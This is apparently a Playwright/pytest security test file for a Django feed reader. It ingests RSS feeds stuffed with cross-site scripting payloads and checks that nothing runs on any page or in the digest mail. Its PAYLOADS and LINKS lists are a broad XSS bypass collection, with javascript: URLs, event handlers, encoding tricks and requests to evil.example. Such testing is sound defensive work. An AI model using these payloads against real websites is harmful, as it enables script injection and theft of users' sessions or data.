"""Strangers' scripts never run: hostile feeds are ingested like any other and opened on every page that shows
items.

Chromium is the judge: no dialog, no mark left on the page, no request off the site, and no complaint about
the content policy (which would stop a script, but only after one had got as far as the page).
"""

import html
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from django.db.models import F
from django.test import Client
from django.utils import timezone
from playwright.sync_api import Browser, Page

from digest.articles.pictures import picture_cache
from digest.articles.render import pictures_in
from digest.feeds.bodies import content_of
from digest.feeds.entities import FeedProblem
from digest.feeds.ingest import feed_get_or_create
from digest.feeds.parse import parse_document
from digest.items.reading import item_save
from digest.mail.content import draft_daily
from digest.mail.render import mail_message
from digest.models import Digest, Item, Reader
from digest.sources.subscriptions import subscription_add
from tests.support.documents import suite
from tests.support.ingest import parsed_ingest
from tests.support.thinned import mostly_nightly
from tests.test_pages_browser import browser, page, tab

__all__ = ["browser", "page", "tab"]
pytestmark = [
    pytest.mark.slow,
    pytest.mark.browser,
    pytest.mark.alike,
    pytest.mark.django_db(transaction=True),
]

RUN = "window.__ran=1"
PICTURE = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c626001000000ffff"
    "03000006000557bfabd40000000049454e44ae426082"
)
# Each one sets a mark, opens a dialog or calls another site if it is taken for markup or an address.
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}"',
    f"<img/src/onerror={RUN}>",
    "<img src=https://evil.example/pixel.gif>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f'<a href="javascript:{RUN}">tap</a>',
    f"<a href=javascript&colon;{RUN}>tap</a>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<object data=javascript:{RUN}></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(https://evil.example/x.png)">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<template><script>{RUN}</script></template>",
    f"</textarea></title></script><script>{RUN}</script>",
    f"\"'><script>{RUN}</script>",
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" x="',
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\u003cimg src=x onerror={RUN}\u003e",
    f"＜script＞{RUN}＜/script＞",
    f"<\x00script>{RUN}</script>",
    f"<a\x0chref=javascript:{RUN}>tap",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<xss id=x tabindex=1 onfocus={RUN}>",
    f"<portal src=javascript:{RUN}>",
]
LINKS = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'https://ok.example/"onmouseover="{RUN}',
    f"https://ok.example/'><script>{RUN}</script>",
]


# Markup around the payloads, so that a body is stored as HTML.
MARKED = (
    '<h2>{0}</h2><p title="{0}">{0}</p><img src="https://evil.example/{1}.png" alt="{0}">'
    "<table><tr><td>{0}</table><pre>{0}"
)


def hostile_feeds() -> Iterator[bytes]:
    """RSS with every payload in every field, as text, as escaped text and as CDATA, under hostile links.

    The description of the last is an article, with the payload in its texts and in its attributes.
    """
    for number, wrap in enumerate(
        (html.escape, lambda p: html.escape(html.escape(p)), "<![CDATA[{}]]>".format)
    ):
        items = []
        for n, payload in enumerate(PAYLOADS):
            said, link = wrap(payload.replace("]]>", "")), html.escape(LINKS[n % len(LINKS)])
            body = wrap(MARKED.format(payload.replace("]]>", ""), n)) if number == 2 else said
            items.append(
                f"<item><title>No. {number}.{n} {said}</title><link>{link}</link><guid>{said}</guid>"
                f"<author>{said}</author><description>{body} end</description></item>"
            )
        head = f"<title>{wrap(PAYLOADS[0])}</title><link>javascript:{RUN}</link><language>{said}</language>"
        yield f'<rss version="2.0"><channel>{head}{"".join(items)}</channel></rss>'.encode()


@pytest.fixture
def watched(page: Page, live_server) -> Iterator[Page]:
    """Yield Ada's tab. Fail at its end if anything ran, asked, or called another site."""
    seen: list[str] = []
    page.context.add_init_script(
        "for (const n of ['alert', 'confirm', 'prompt']) window[n] = () => {window.__ran = n}"
    )
    heard: dict[str, Callable[..., object]] = {
        "dialog": lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()),
        "popup": lambda popup: seen.append(f"popup {popup.url}"),
        "request": lambda r: r.url.startswith(live_server.url) or seen.append(f"request {r.url[:200]}"),
    }
    for event, note in heard.items():
        page.on(event, note)
    yield page
    for event, note in heard.items():
        page.remove_listener(event, note)
    assert seen == []


def quiet(page: Page, address: str) -> None:
    """Open a page, unfold all of it, hover and focus what can be: nothing may run."""
    page.goto(address)
    assert page.evaluate("document.querySelectorAll('main *').length") > 0
    page.evaluate(
        """for (const part of document.querySelectorAll('main *')) {
             if (part.tagName === 'DETAILS') part.open = true;
             part.dispatchEvent(new Event('mouseover', {bubbles: true}));
             if (!part.matches('input, textarea, select')) part.focus?.();
           }"""
    )
    assert page.evaluate("window.__ran") is None, address
    found = page.evaluate(
        """[...document.querySelectorAll('*')].flatMap(e => [...e.attributes].filter(a =>
             /^on/i.test(a.name) || (/^(href|src|action|formaction|data)$/i.test(a.name)
             && /^\\s*(java|vb)script:|^\\s*data:/i.test(a.value))).map(a => a.name + '=' + a.value))"""
    )
    assert found == [], address


def keep(reader: Reader, documents: dict[str, bytes]) -> int:
    """Ingest documents as feeds that the reader reads; how many could be read."""
    now, kept = timezone.now(), 0
    for name, body in documents.items():
        try:
            parsed = parse_document(body, url=f"https://{name}.example/feed")
        except FeedProblem:
            continue
        url = f"https://{name}.example/feed"
        parsed_ingest(feed=feed_get_or_create(url=url, now=now), parsed=parsed, now=now)
        subscription_add(reader=reader, url=url, now=now)
        kept += 1
    return kept


@pytest.fixture
def pictured(settings, tmp_path: Path) -> Iterator[Callable[[], int]]:
    """Has every picture that the items name at hand, so that the browser gets them; how many there are."""
    settings.VAR_DIR = tmp_path
    cache = picture_cache(tmp_path / "pictures", settings.PICTURE_CACHE_MB)

    def fill() -> int:
        contents = [content_of(item=item) for item in Item.objects.all()]
        named = {one for content in contents for one in (*pictures_in(content.html), content.image) if one}
        for address in named:
            cache.put(address, PICTURE, now=timezone.now())
        return len(named)

    yield fill


def test_the_watch_sees_what_runs(browser: Browser):
    context = browser.new_context()
    tab = context.new_page()
    tab.set_content(PAYLOADS[4])
    tab.wait_for_function("window.__ran !== undefined")
    assert tab.evaluate("window.__ran") == 1
    context.close()


# Lists show every payload in every form. An article is a page of its own, which takes half a second.
ARTICLES = {"every third article": 3, "every article": 1}


@pytest.mark.parametrize("step", mostly_nightly(ARTICLES, always=["every third article"]))
def test_nothing_of_a_hostile_feed_runs_on_any_page(
    watched: Page, ada: Reader, pictured: Callable[[], int], step: int
):
    assert keep(ada, {f"hostile{n}": body for n, body in enumerate(hostile_feeds())}) == 3
    items = list(Item.objects.order_by("pk"))
    assert len(items) >= 2 * len(PAYLOADS)
    assert pictured() > len(PAYLOADS) / 2
    quiet(watched, "/")
    bodies = [item for item in items if content_of(item=item).html]
    # All but those that a browser, too, reads as words, or as elements that take the rest along.
    assert len(bodies) >= len(PAYLOADS) - 2
    for item in items:
        item_save(reader=ada, item_id=item.pk, saved=True, now=timezone.now())
    plain = [item for item in items if item not in bodies]
    for item in [*bodies[::step], *plain[:: 3 * step]]:
        quiet(watched, f"/ui/item/{item.pk}")
    today = timezone.localdate(timezone=ada.zone)
    addresses = [
        "/",
        f"/ui/date/{today}",
        f"/ui/date/{today}/left-out",
        "/ui/search?q=script",
        "/ui/search?q=No",
    ]
    addresses += [
        f"/ui/search?q={payload}" for payload in ("<script>window.__ran=1</script>", '"><img src=x>')
    ]
    sources = [f"/ui/sources/{row.feed_id}" for row in ada.subscriptions.all()]
    for address in [*addresses, "/ui/saved", "/ui/saved?page=2", "/ui/sources", *sources, "/ui/config"]:
        quiet(watched, address)


def test_nothing_of_a_hostile_feed_runs_in_the_mail(browser: Browser, ada: Reader):
    keep(ada, {f"hostile{n}": body for n, body in enumerate(hostile_feeds())})
    from_the_paper(ada)
    digest = Digest.objects.get(reader=ada)
    draft = draft_daily(reader=ada, digest=digest, now=timezone.now())
    assert draft is not None
    message = mail_message(draft.content, now=timezone.now())
    context = browser.new_context()
    tab, seen = context.new_page(), []
    tab.on("request", lambda request: seen.append(request.url))
    for body, _ in message.alternatives:
        tab.set_content(str(body), wait_until="networkidle")
        assert tab.evaluate("window.__ran") is None
        assert tab.locator("script, iframe, object, embed, form, img, [onerror], [onload]").count() == 0
    context.close()
    assert seen == []


def from_the_paper(reader: Reader) -> None:
    """Let the reader's digest of today be made by its page."""
    client = Client()
    client.force_login(reader)
    client.get("/")


@pytest.mark.data
@pytest.mark.nightly
def test_nothing_of_the_sanitising_suite_runs(
    watched: Page, ada: Reader, data_dir: Path, pictured: Callable[[], int]
):
    bodies = suite(data_dir / "feeds/suites/feedparser-tests.tar.gz")
    hostile = {name: body for name, body in bodies.items() if "/sanitize/" in name}
    read = keep(ada, {f"s{n}": body for n, body in enumerate(hostile.values())})
    assert len(hostile) == 499
    assert read > 480
    # The suite's documents share a few links: each is an article of its own here, so that each is shown.
    Item.objects.update(article=F("pk"))
    for item in Item.objects.all():
        item_save(reader=ada, item_id=item.pk, saved=True, now=timezone.now())
    pictured()
    shown = 0
    for number in range(1, 40):
        quiet(watched, f"/ui/saved?page={number}")
        found = watched.locator("main article, main li").count()
        shown += found
        if not watched.locator(f'a[href*="page={number + 1}"]').count():
            break
    assert shown >= Item.objects.values("article").distinct().count()
    articles = [f"/ui/item/{item.pk}" for item in Item.objects.all() if content_of(item=item).html]
    assert len(articles) > 20
    for address in ("/", "/ui/search?q=script", "/ui/search?q=safe", "/ui/sources", *articles):
        quiet(watched, address)
